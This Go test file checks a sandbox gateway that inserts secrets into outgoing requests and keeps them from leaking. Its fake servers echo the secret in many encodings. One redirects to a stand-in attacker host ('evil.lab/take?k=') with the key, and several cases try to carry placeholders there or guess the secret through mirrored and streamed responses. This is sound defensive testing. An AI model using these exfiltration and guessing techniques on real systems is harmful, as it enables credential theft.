//go:build linux

package gateway

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/warren-sandbox/warren/internal/secret/secrettest"
)

const (
	canary  = "canary+9f8e7d/6c5b&4a<39"
	canary2 = "another-canary-77aa"
	holder  = "wsec_abcdefghijklmnopqrstuvwxyz234567"
	holder2 = "wsec_zyxwvutsrqponmlkjihgfedcba765432"
	earlier = "wsec_earlierearlierearlierearlier2345"
)

// bank is a server that writes down what reaches it, and sends it back in every form.
type bank struct {
	mu   sync.Mutex
	seen []*http.Request
	body []string
	// stream is what /v1/stream says.
	stream chan string
}

func (b *bank) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return // the request was cut off: it has not arrived
	}
	b.mu.Lock()
	b.seen, b.body = append(b.seen, r), append(b.body, string(body))
	b.mu.Unlock()
	_, key, _ := r.BasicAuth()
	if key == "" {
		key = strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	}
	switch r.URL.Path {
	case "/echo":
		w.Header().Set("Trailer", "X-Trailer")
		w.Header().Set("X-Echo", key)
		w.Header().Set("Set-Cookie", "k="+url.QueryEscape(key))
		w.Header().Set("Link", "<https://x/?k="+url.QueryEscape(key)+">")
		js, _ := json.Marshal(key)
		fmt.Fprintf(w, "plain %s\njson %s\nhex %s\nbase64 %s\nauth %s\n", key, js, hex.EncodeToString([]byte(key)), base64.StdEncoding.EncodeToString([]byte(key)), r.Header.Get("Authorization"))
		w.(http.Flusher).Flush()
		for i := range len(key) {
			io.WriteString(w, key[i:i+1])
			w.(http.Flusher).Flush()
		}
		w.Header().Set("X-Trailer", key)
	case "/early":
		w.Header().Set("Link", "<https://x/?k="+key+">")
		w.WriteHeader(http.StatusEarlyHints)
		w.WriteHeader(http.StatusOK)
	case "/gzip":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		io.WriteString(z, "packed "+key)
		z.Close()
	case "/br":
		w.Header().Set("Content-Encoding", "br")
		io.WriteString(w, "cannot be read")
	case "/away":
		w.Header().Set("Location", "https://evil.lab/take?k="+key)
		w.WriteHeader(http.StatusTemporaryRedirect)
	case "/parts":
		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(canary))
	case "/part":
		w.WriteHeader(http.StatusPartialContent)
		io.WriteString(w, "canary+9")
	case "/v1/mirror":
		w.Write(body)
	case "/v1/stream":
		b.mu.Lock()
		said := b.stream
		b.mu.Unlock()
		w.(http.Flusher).Flush()
		for text := range said {
			io.WriteString(w, text)
			w.(http.Flusher).Flush()
		}
	default:
		io.WriteString(w, "ok")
	}
}

// last returns the newest request that has arrived, and how many there were since the last call.
func (b *bank) last() (*http.Request, string, int) {
	b.mu.Lock()
	defer b.mu.Unlock()
	n := len(b.seen)
	if n == 0 {
		return nil, "", 0
	}
	r, body := b.seen[n-1], b.body[n-1]
	b.seen, b.body = nil, nil
	return r, body, n
}

const granted = `allow: [bank.lab, evil.lab, {host: plain.lab, protocol: http}]
secrets:
  - {secret: bank-key, env: BANK_TOKEN, host: bank.lab, paths: [/v1/*, /echo, /early, /gzip, /br, /away], methods: [GET, POST], place: {header: Authorization, format: "Bearer {}"}}
  - {secret: other-key, host: bank.lab, paths: [/basic/*], place: {basic: me}}
  - {secret: other-key, name: query-key, host: bank.lab, paths: [/query/*], place: {query: api_key}}
`

func bankLab(t *testing.T) (*lab, *bank, *bank, *inside) {
	l := newLab(t)
	good, evil := &bank{}, &bank{}
	l.name("bank.lab", "11.1.1.1")
	l.name("evil.lab", "11.6.6.6")
	l.name("plain.lab", "11.6.6.7")
	l.web("11.1.1.1:443", good, "bank.lab")
	l.web("11.6.6.6:443", evil, "evil.lab")
	l.web("11.6.6.7:80", evil)
	in := l.sandbox("one", granted, l.secret("bank-key", canary, holder, earlier), l.secret("other-key", canary2, holder2))
	return l, good, evil, in
}

// whole is an answer as the sandbox has it.
func whole(t *testing.T, res *http.Response) string {
	t.Helper()
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%s\n%v\n%s\n%v", res.Status, res.Header, body, res.Trailer)
}

func (in *inside) do(t *testing.T, method, url, body string, header ...string) (*http.Response, error) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(header); i += 2 {
		req.Header.Add(header[i], header[i+1])
	}
	return in.client().Do(req)
}

func TestSecretIsPutIn(t *testing.T) {
	l, good, _, in := bankLab(t)
	scan := secrettest.New(t, map[string]string{"bank-key": canary, "other-key": canary2})
	for _, c := range []struct {
		what   string
		path   string
		header []string
		want   func(r *http.Request) bool
	}{
		{"nothing inside", "/v1/x", nil, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
		{"the placeholder", "/v1/x", []string{"Authorization", "Bearer " + holder}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
		{"an earlier placeholder", "/v1/x", []string{"Authorization", "Bearer " + earlier}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
		{"a credential of its own", "/v1/x", []string{"Authorization", "Bearer mine", "authorization", "Basic bWU6bWluZQ=="},
			func(r *http.Request) bool {
				return len(r.Header["Authorization"]) == 1 && r.Header.Get("Authorization") == "Bearer "+canary
			}},
		{"basic", "/basic/x", nil, func(r *http.Request) bool {
			u, p, ok := r.BasicAuth()
			return ok && u == "me" && p == canary2
		}},
		{"query", "/query/x?a=b&api_key=mine&API%5FKEY=too", nil, func(r *http.Request) bool {
			return r.URL.Query().Get("api_key") == canary2 && len(r.URL.Query()["api_key"]) == 1 && r.URL.Query().Get("a") == "b" && len(r.URL.Query()) == 2
		}},
		{"another path", "/other", nil, func(r *http.Request) bool { return len(r.Header["Authorization"]) == 0 }},
		{"a path that only looks like it", "/V1/x", nil, func(r *http.Request) bool { return len(r.Header["Authorization"]) == 0 }},
		{"the sandbox's own elsewhere", "/other", []string{"Authorization", "Bearer mine"}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer mine" }},
	} {
		res, err := in.do(t, "GET", "https://bank.lab"+c.path, "", c.header...)
		if err != nil {
			t.Errorf("%s: %v", c.what, err)
			continue
		}
		if found := scan.Text(c.what, whole(t, res)); len(found) > 0 {
			t.Errorf("%s: the sandbox sees %v", c.what, found)
		}
		if r, _, n := good.last(); n != 1 || !c.want(r) {
			t.Errorf("%s: %d requests, the last with %v %s", c.what, n, r.Header, r.URL)
		}
	}
	if !l.has("secret.use", "bank.lab") {
		t.Error("the use is not on record")
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if found := scan.Text("the record", fmt.Sprintf("%+v", l.entries)); len(found) > 0 {
		t.Errorf("%v", found)
	}
}

func TestSecretComesNotBack(t *testing.T) {
	l, good, _, in := bankLab(t)
	scan := secrettest.New(t, map[string]string{"bank-key": canary, "other-key": canary2})
	for _, path := range []string{"/echo", "/early", "/gzip", "/away"} {
		res, err := in.do(t, "GET", "https://bank.lab"+path, "")
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		text := whole(t, res)
		if found := scan.Text(path, text); len(found) > 0 {
			t.Errorf("%s: the sandbox sees %v", path, found)
		}
		if path != "/early" && !strings.Contains(text, holder) {
			t.Errorf("%s: the placeholder does not stand in its place: %s", path, text)
		}
		if r, _, n := good.last(); n != 1 || r.Header.Get("Authorization") != "Bearer "+canary {
			t.Errorf("%s: %d requests", path, n)
		}
	}
	// What cannot be read is not handed on.
	if res, err := in.do(t, "GET", "https://bank.lab/br", ""); err != nil || res.StatusCode != http.StatusBadGateway {
		t.Errorf("an encoding that cannot be read: %v, %v", res, err)
	}
	if !l.has("secret.shown", "bank.lab") {
		t.Error("it is not on record that the server sent the value back")
	}
	// Over HTTP/1.1, with early hints as they come.
	c, br := in.open(t, "bank.lab")
	defer c.Close()
	for _, path := range []string{"/early", "/echo"} {
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: bank.lab\r\nConnection: keep-alive, TE\r\nTE: trailers\r\n\r\n", path)
		var raw bytes.Buffer
		for {
			res, err := http.ReadResponse(bufio.NewReader(io.TeeReader(byByte{br}, &raw)), nil)
			if err != nil {
				t.Fatal(err)
			}
			if res.StatusCode >= 200 {
				io.Copy(io.Discard, res.Body)
				break
			}
		}
		if found := scan.Text(path, raw.String()); len(found) > 0 {
			t.Errorf("%s over HTTP/1.1: the sandbox sees %v", path, found)
		}
		if path == "/early" && !strings.Contains(raw.String(), "103 Early Hints") {
			t.Errorf("no early hints: %s", raw.String())
		}
		if r, _, n := good.last(); n < 1 || r.Header.Get("Authorization") != "Bearer "+canary {
			t.Errorf("%s over HTTP/1.1: %d requests", path, n)
		}
	}
}

// Over HTTP/2 an answer without a body can have trailers, announced or not.
func TestSecretInTrailers(t *testing.T) {
	l := newLab(t)
	l.name("bank.lab", "11.1.1.1")
	l.web("11.1.1.1:443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		name := http.TrailerPrefix + "X-Trailer"
		if r.URL.Query().Has("announced") {
			name = "X-Trailer"
			w.Header().Set("Trailer", name)
		}
		status := http.StatusOK
		fmt.Sscanf(r.URL.Path, "/%d", &status)
		w.WriteHeader(status)
		w.(http.Flusher).Flush()
		w.Header().Set(name, key)
	}), "bank.lab")
	in := l.sandbox("one", "allow: [bank.lab]\nsecrets:\n  - {secret: bank-key, host: bank.lab, place: {header: Authorization, format: \"Bearer {}\"}}\n", l.secret("bank-key", canary, holder))
	for _, method := range []string{"GET", "HEAD"} {
		for _, path := range []string{"/200", "/204", "/304", "/200?announced", "/204?announced", "/304?announced"} {
			res, err := in.do(t, method, "https://bank.lab"+path, "")
			if err != nil {
				t.Errorf("%s %s: %v", method, path, err)
				continue
			}
			if text := whole(t, res); strings.Contains(text, canary) || method == "GET" && res.Trailer.Get("X-Trailer") != holder {
				t.Errorf("%s %s over %s: the sandbox sees %s", method, path, res.Proto, text)
			}
		}
	}
}

// A server shows over http and on other ports what it was told on one.
func TestSecretComesNotBackElsewhere(t *testing.T) {
	l := newLab(t)
	l.name("bank.lab", "11.1.1.1")
	var last atomic.Value
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Host == "bank.lab" && r.TLS != nil {
			last.Store(r.Header.Get("Authorization"))
		}
		fmt.Fprintf(w, "last %s, now %q, coded as %q", last.Load(), r.Header.Get("Authorization"), r.Header.Get("Accept-Encoding"))
	})
	l.web("11.1.1.1:443", h, "bank.lab")
	l.web("11.1.1.1:80", h)
	l.web("11.1.1.1:8443", h, "bank.lab")
	in := l.sandbox("one", "allow: [bank.lab, {host: bank.lab, protocol: http}, {host: bank.lab, ports: [8443], inspect: true}]\n"+
		"secrets:\n  - {secret: bank-key, host: bank.lab, place: {header: Authorization, format: \"Bearer {}\"}}\n", l.secret("bank-key", canary, holder))
	for _, url := range []string{"https://bank.lab/", "http://bank.lab/", "https://bank.lab:8443/"} {
		res, err := in.do(t, "GET", url, "", "Accept-Encoding", "gzip")
		if err != nil {
			t.Fatalf("%s: %v", url, err)
		}
		now := ""
		if url == "https://bank.lab/" {
			now = "Bearer " + holder
		}
		want := fmt.Sprintf("last Bearer %s, now %q, coded as \"identity\"", holder, now)
		if text := whole(t, res); res.StatusCode != http.StatusOK || !strings.Contains(text, want) {
			t.Errorf("%s: the sandbox sees %s; want %s", url, text, want)
		}
	}
}

// byByte lets a reader read no more than it needs.
type byByte struct{ r io.Reader }

func (b byByte) Read(p []byte) (int, error) { return b.r.Read(p[:1]) }

func TestPlaceholderElsewhere(t *testing.T) {
	l, good, evil, in := bankLab(t)
	for _, c := range []struct {
		what, method, url, body string
		header                  []string
	}{
		{"another host", "GET", "https://evil.lab/x", "", []string{"Authorization", "Bearer " + holder}},
		{"another path", "GET", "https://bank.lab/other", "", []string{"Authorization", "Bearer " + holder}},
		{"another method", "PUT", "https://bank.lab/v1/x", "", []string{"Authorization", "Bearer " + holder}},
		{"another header", "GET", "https://bank.lab/v1/x", "", []string{"X-Note", holder}},
		{"another secret's place", "GET", "https://bank.lab/basic/x", "", []string{"X-Note", holder}},
		{"plain HTTP", "GET", "http://plain.lab/x", "", []string{"Authorization", "Bearer " + holder}},
		{"the query", "GET", "https://bank.lab/v1/x?k=" + holder, "", nil},
		{"the path", "GET", "https://evil.lab/" + holder, "", nil},
		{"the body", "POST", "https://bank.lab/v1/x", "a=" + holder, nil},
		{"the body, in base64", "POST", "https://evil.lab/x", base64.StdEncoding.EncodeToString([]byte("k:" + holder)), nil},
		{"an earlier one", "GET", "https://evil.lab/x", "", []string{"Cookie", "a=" + earlier}},
	} {
		res, err := in.do(t, c.method, c.url, c.body, c.header...)
		if c.url == "https://evil.lab/x" && err != nil {
			t.Errorf("%s: %v", c.what, err)
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", c.what, err)
			continue
		}
		text := whole(t, res)
		inspected := !strings.Contains(c.url, "evil.lab")
		if inspected && res.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %s", c.what, text)
		}
		if r, body, n := good.last(); n > 0 && (inspected || strings.Contains(fmt.Sprint(r.Header, body), canary)) {
			t.Errorf("%s: it has arrived", c.what)
		}
		if r, body, n := evil.last(); n > 0 && strings.Contains(fmt.Sprint(r.Header, r.URL, body), canary) {
			t.Errorf("%s: the value has arrived at another host", c.what)
		} else if n > 0 && inspected {
			t.Errorf("%s: it has arrived", c.what)
		}
	}
	if !l.has("http.deny", "bank.lab") {
		t.Error("the misplaced placeholder is not on record")
	}
}

func TestSecretChanges(t *testing.T) {
	l, good, _, in := bankLab(t)
	client := in.client()
	ask := func() (int, string, int) {
		res, err := client.Get("https://bank.lab/v1/x")
		if err != nil {
			t.Fatal(err)
		}
		whole(t, res)
		r, _, n := good.last()
		if n == 0 {
			return res.StatusCode, "", 0
		}
		return res.StatusCode, r.Header.Get("Authorization"), n
	}
	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary {
		t.Fatalf("%d %s", status, auth)
	}
	set := func(s ...Secret) {
		t.Helper()
		if err := l.g.SetPolicy("one", Rules{Policy: l.policy(granted), Secrets: s}); err != nil {
			t.Fatal(err)
		}
	}
	set(l.secret("bank-key", canary2, holder))
	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary2 {
		t.Errorf("after a change: %d %s", status, auth)
	}
	for what, s := range map[string]Secret{
		"one that was removed":       {"bank-key", "", []string{holder}},
		"one that cannot be opened":  {"bank-key", l.secret("other-name", canary).Sealed, []string{holder}},
		"one that was never handed":  {},
		"one without a text that is": {"bank-key", "warren-sealed:1:x", nil},
	} {
		set(s)
		if status, auth, n := ask(); status != http.StatusBadGateway || n != 0 {
			t.Errorf("%s: %d, %d requests with %q", what, status, n, auth)
		}
		res, err := client.Get("https://bank.lab/v1/x")
		if err != nil {
			t.Fatal(err)
		}
		if text := whole(t, res); s.Sealed != "" && (strings.Contains(text, "sealed") || !strings.Contains(text, "the operator of the server finds the reason")) {
			t.Errorf("%s: the sandbox is told %s", what, text)
		}
	}
	set(l.secret("bank-key", canary, holder))
	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary {
		t.Errorf("when it is back: %d %s", status, auth)
	}
	// Without the record there is no use.
	l.mu.Lock()
	l.fail = io.ErrShortWrite
	l.mu.Unlock()
	if _, _, n := ask(); n != 0 {
		t.Error("a use that could not be recorded")
	}
}

// A server that says what it is told can be used to guess a value, since what may be its beginning is held back. Guesses are counted.
func TestSecretIsNotGuessed(t *testing.T) {
	l, good, _, _ := bankLab(t)
	sealed := []Secret{l.secret("bank-key", canary, holder), l.secret("other-key", canary2, holder2)}
	in := l.sandbox("guesser", granted, sealed...)
	mirror := func(text string) (int, string) {
		t.Helper()
		res, err := in.do(t, "POST", "https://bank.lab/v1/mirror", text)
		if err != nil {
			return 0, err.Error()
		}
		defer res.Body.Close()
		back, err := io.ReadAll(res.Body)
		if err != nil {
			return 0, err.Error()
		}
		return res.StatusCode, string(back)
	}
	near := canary[:len(canary)-8]
	for range 3 * maxNear {
		if status, back := mirror(near[:len(near)-1] + "?"); status != 200 || back != near[:len(near)-1]+"?" {
			t.Fatalf("less than that: %d %q", status, back)
		}
	}
	for n := range maxNear - 1 {
		if status, back := mirror(fmt.Sprint(near, "?", n)); status != 200 || back != fmt.Sprint(near, "?", n) {
			t.Fatalf("guess %d: %d %q", n, status, back)
		}
	}
	if l.has("secret.guess", "") {
		t.Fatal("it is on record too early")
	}
	// An answer that began before: what it holds back would tell that a guess is right.
	said := make(chan string, 8)
	good.mu.Lock()
	good.stream = said
	good.mu.Unlock()
	open, err := in.do(t, "GET", "https://bank.lab/v1/stream", "")
	if err != nil {
		t.Fatal(err)
	}
	defer open.Body.Close()
	said <- "hello "
	if _, err := io.ReadFull(open.Body, make([]byte, 6)); err != nil {
		t.Fatal(err)
	}
	said <- near + canary[len(near):len(near)+2]
	if status, back := mirror(near + "?"); strings.Contains(back, near) {
		t.Fatalf("the last guess: %d %q", status, back)
	}
	if text, err := io.ReadAll(open.Body); err == nil || len(text) > 0 {
		t.Errorf("an answer that is open goes on: %q, %v", text, err)
	}
	close(said)
	if !l.has("secret.guess", "bank.lab") {
		t.Error("the guesses are not on record")
	}
	good.last()
	// With another policy too, and for other requests to the host.
	for range 2 {
		for _, path := range []string{"/v1/x", "/basic/x"} {
			res, err := in.do(t, "GET", "https://bank.lab"+path, "")
			if err != nil {
				t.Fatal(err)
			}
			if text := whole(t, res); res.StatusCode != http.StatusBadGateway || !strings.Contains(text, "as if someone guessed") || strings.Contains(text, canary) {
				t.Errorf("%s after the guesses: %s", path, text)
			}
		}
		if err := l.g.SetPolicy("guesser", Rules{Policy: l.policy(granted + "  - {secret: other-key, name: more, host: evil.lab, place: {query: k}}\n"), Secrets: sealed}); err != nil {
			t.Fatal(err)
		}
	}
	if _, _, n := good.last(); n != 0 {
		t.Errorf("%d requests have arrived after the guesses", n)
	}
	const next = "the-next-canary-55bb"
	// A value that nobody has guessed at is another matter; a server may still tell of the one before.
	if err := l.g.SetPolicy("guesser", Rules{Policy: l.policy(granted), Secrets: []Secret{l.secret("bank-key", next, holder)}}); err != nil {
		t.Fatal(err)
	}
	if status, back := mirror("was " + canary + ", is " + next); status != http.StatusBadGateway || !strings.Contains(back, "until that is paused and resumed") {
		t.Errorf("after a change, a value before it was guessed at: %d %q", status, back)
	}
	other := l.sandbox("other", granted, sealed...)
	if err := l.g.SetPolicy("other", Rules{Policy: l.policy(granted), Secrets: []Secret{l.secret("bank-key", next, holder)}}); err != nil {
		t.Fatal(err)
	}
	in = other
	if status, back := mirror("was " + canary + ", is " + next); status != 200 || back != "was "+holder+", is "+holder {
		t.Errorf("after a change: %d %q", status, back)
	}
}

// A server that sends back at once what it is told tells a sandbox nothing of the end of a value by what is held back.
func TestSecretIsNotReadByDigits(t *testing.T) {
	l := newLab(t)
	l.name("bank.lab", "11.1.1.1")
	l.web("11.1.1.1:443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.NewResponseController(w).EnableFullDuplex()
		w.(http.Flusher).Flush()
		b := make([]byte, 4096)
		for {
			n, err := r.Body.Read(b)
			w.Write(b[:n])
			w.(http.Flusher).Flush()
			if err != nil {
				return
			}
		}
	}), "bank.lab")
	in := l.sandbox("one", "allow: [bank.lab]\nsecrets:\n  - {secret: bank-key, host: bank.lab, place: {header: Authorization, format: \"Bearer {}\"}}\n", l.secret("bank-key", canary, holder))
	client := in.client()
	digits := hex.EncodeToString([]byte(canary))
	near := digits[:len(digits)-2*8]
	for _, probe := range []string{digits[:len(near)+1], near + "x", digits[:len(near)+8], near + "xxxxxxxx", digits[:len(digits)-1], near + strings.Repeat("x", 15)} {
		src, to := io.Pipe()
		req, err := http.NewRequestWithContext(t.Context(), "POST", "https://bank.lab/echo", src)
		if err != nil {
			t.Fatal(err)
		}
		res, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		got := make(chan string, 2)
		go func() {
			b := make([]byte, 4096)
			io.ReadFull(res.Body, b[:2])
			got <- string(b[:2])
			n, _ := res.Body.Read(b)
			got <- string(b[:n])
		}()
		io.WriteString(to, "#\n"+probe)
		if begun := <-got; begun != "#\n" {
			t.Fatalf("it begins with %q", begun)
		}
		select {
		case text := <-got:
			t.Errorf("of %q comes %q", probe, text)
		case <-time.After(200 * time.Millisecond):
			// Then all of it comes, and is wrong.
			io.WriteString(to, strings.Repeat("x", len(digits)-len(probe)))
			if text := <-got; !strings.HasPrefix(text, near) {
				t.Errorf("after %q, when as much has come as the value has, comes %q", probe, text)
			}
		}
		to.Close()
		res.Body.Close()
	}
}

// Where nothing was put in, nothing is taken out: what a sandbox without the grant reads is as the server sent it.
func TestTwinSecretComesBack(t *testing.T) {
	l, good, _, _ := bankLab(t)
	in := l.sandbox("two", "allow:\n  - {host: bank.lab, inspect: true}")
	res, err := in.do(t, "GET", "https://bank.lab/echo", "", "Authorization", "Bearer "+canary)
	if err != nil {
		t.Fatal(err)
	}
	scan := secrettest.New(t, map[string]string{"bank-key": canary})
	if found := scan.Text("echo", whole(t, res)); len(found) < 5 {
		t.Errorf("the echo shows %v: the tests that find nothing look at nothing", found)
	}
	if _, _, n := good.last(); n != 1 {
		t.Errorf("%d requests", n)
	}
}

// open opens a TLS connection that speaks HTTP/1.1.
func (in *inside) open(t *testing.T, host string) (io.ReadWriteCloser, *bufio.Reader) {
	t.Helper()
	a, err := in.lookup(host)
	if err != nil {
		t.Fatal(err)
	}
	c, err := in.dial(t.Context(), netip.AddrPortFrom(a, 443))
	if err != nil {
		t.Fatal(err)
	}
	tc := in.tls(c, host)
	return tc, bufio.NewReader(tc)
}

// What a broken server says is not told to the sandbox: it may be the secret.
func TestBrokenAnswer(t *testing.T) {
	l, _, _, in := bankLab(t)
	cert := l.cert("bank.lab")
	l.serve("11.1.1.1:443", func(c net.Conn) {
		tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}, NextProtos: []string{"http/1.1"}})
		defer tc.Close()
		r, err := http.ReadRequest(bufio.NewReader(tc))
		if err != nil {
			return
		}
		fmt.Fprintf(tc, "HTTP/1.1 200 OK\r\nbad token %s\r\n\r\n", r.Header.Get("Authorization"))
	})
	res, err := in.do(t, "GET", "https://bank.lab/v1/x", "")
	if err != nil {
		t.Fatal(err)
	}
	if text := whole(t, res); res.StatusCode != http.StatusBadGateway || strings.Contains(text, canary) || !strings.Contains(text, "did not answer") {
		t.Errorf("the sandbox is told %s", text)
	}
}

// An address that a new policy denies is not reached by a connection from before it.
func TestAddressDeniedLater(t *testing.T) {
	l := newLab(t)
	l.name("web.lab", "11.1.1.1")
	l.web("11.1.1.1:443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/long" {
			io.WriteString(w, "begun")
			w.(http.Flusher).Flush()
			<-r.Context().Done()
		}
	}), "web.lab")
	in := l.sandbox("one", "allow: [{host: web.lab, inspect: true}]")
	client := in.client()
	long, err := client.Get("https://web.lab/long")
	if err != nil {
		t.Fatal(err)
	}
	defer long.Body.Close()
	if err := l.g.SetPolicy("one", Rules{Policy: l.policy("allow: [{host: web.lab, inspect: true}]\ndeny: [{cidr: 11.1.1.1/32}]")}); err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(io.Discard, long.Body); err == nil {
		t.Error("what was under way goes on to its end")
	}
	res, err := client.Get("https://web.lab/new")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusForbidden {
		t.Errorf("a new request: %s", res.Status)
	}
}
